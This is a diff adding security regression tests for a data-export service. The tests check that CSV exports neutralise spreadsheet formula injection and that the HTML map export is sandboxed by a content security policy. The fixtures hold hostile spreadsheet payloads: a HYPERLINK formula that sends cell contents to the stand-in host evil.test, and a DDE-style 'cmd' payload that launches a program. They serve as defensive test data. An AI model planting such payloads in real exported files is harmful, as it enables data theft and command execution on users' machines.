@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import io
 import json
 import re
@@ -176,3 +177,65 @@ async def test_a_column_blank_everywhere_keeps_its_number_type(env, ext):
     assert types["v_side_score"].lower().startswith("float"), types["v_side_score"]
     assert types["households"].lower().startswith("float"), types["households"]
     assert types["supporters"].lower().startswith("int"), types["supporters"]  # blank: < k
+
+
+# ---------------------------------------------------------------- issue 12 §6
+RISKY = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = {  # district letter -> (name, commune name) from a hostile file, and as exported
+    "A": (
+        ('=HYPERLINK("http://evil.test/?"&A1;"open")', "@SUM(1+1)"),
+        ('\'=HYPERLINK("http://evil.test/?"&A1;"open")', "'@SUM(1+1)"),
+    ),
+    "B": (("+33 1 23", "-2+3+cmd|' /C calc'!A0"), ("'+33 1 23", "'-2+3+cmd|' /C calc'!A0")),
+    "C": (("\tTab", "Bourg;=1+1"), ("'\tTab", "Bourg;'=1+1")),
+}
+
+
+def _spreadsheet_cells(content: bytes, delimiter: str) -> list[str]:
+    """Every cell as a spreadsheet splits them (quotes honoured), keeping text only."""
+    out = []
+    for row in csv.reader(io.StringIO(content.decode("utf-8")), delimiter=delimiter):
+        for value in row:
+            try:
+                float(value)
+            except ValueError:
+                out.append(value)
+    return out
+
+
+async def test_csv_export_cells_never_run_as_formulas(env):
+    """District names come from files: a name starting with = + - @ (or tab) was written as is
+    and ran in the analyst's spreadsheet. Now it starts with an apostrophe, every text cell is
+    quoted (a ';' inside cannot start a new cell), and numbers stay numbers."""
+    client, world, area, engine, _ = env
+    async with engine.begin() as conn:
+        for letter, ((name, commune), _) in FORMULAS.items():
+            await conn.execute(
+                text("UPDATE district SET name = :n, commune_name = :m WHERE code = :c"),
+                {"n": name, "m": commune, "c": area.code(letter)},
+            )
+    r = await _get(env, "csv")
+    assert r.status_code == 200, r.text
+    for delimiter in (",", ";"):  # the file's own, and a French spreadsheet's
+        risky = [c for c in _spreadsheet_cells(r.content, delimiter) if c.startswith(RISKY)]
+        assert risky == [], risky
+    t = _table("csv", r.content).set_index("code")
+    for letter, (_, (name, commune)) in FORMULAS.items():
+        assert t.loc[area.code(letter), "name"] == name
+        assert t.loc[area.code(letter), "commune_name"] == commune
+    # A negative score is still a number.
+    assert float(t.loc[area.code("C"), "score"]) == pytest.approx(-0.967, abs=1e-3)
+
+
+async def test_html_export_never_runs_on_the_app_origin(env):
+    """The HTML map was served inline on the service's origin: its scripts (and any text a
+    district file slipped into it) ran next to the app's tokens. Now it is a download, and a
+    sandbox CSP (no allow-same-origin) keeps it in an opaque origin even if opened."""
+    r = await _get(env, "html")
+    assert r.status_code == 200
+    assert r.headers["content-disposition"].startswith("attachment;")
+    csp = [p.strip() for p in r.headers["content-security-policy"].split(";")]
+    sandbox = next(p for p in csp if p.startswith("sandbox"))
+    assert "allow-same-origin" not in sandbox and "allow-top-navigation" not in sandbox
+    assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
+    assert not any("connect-src" in p and "'self'" in p for p in csp)
